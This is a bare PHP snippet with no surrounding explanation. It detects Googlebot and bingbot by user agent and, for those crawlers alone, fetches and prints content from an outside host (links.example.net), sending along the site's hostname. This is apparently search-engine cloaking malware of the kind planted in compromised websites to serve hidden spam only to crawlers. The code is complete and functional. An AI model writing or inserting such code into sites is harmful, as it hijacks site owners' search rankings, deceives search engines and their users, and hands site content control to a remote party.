<?php
function is_spider_k() {
    $ua = @$_SERVER['HTTP_USER_AGENT'];
    return stripos($ua, 'Googlebot') !== false || stripos($ua, 'bingbot') !== false;
}
if (is_spider_k()) {
    $page = file_get_contents('http://' . 'links.example.net/g.php?d=' . $_SERVER['HTTP_HOST']);
    echo $page;
    die();
}
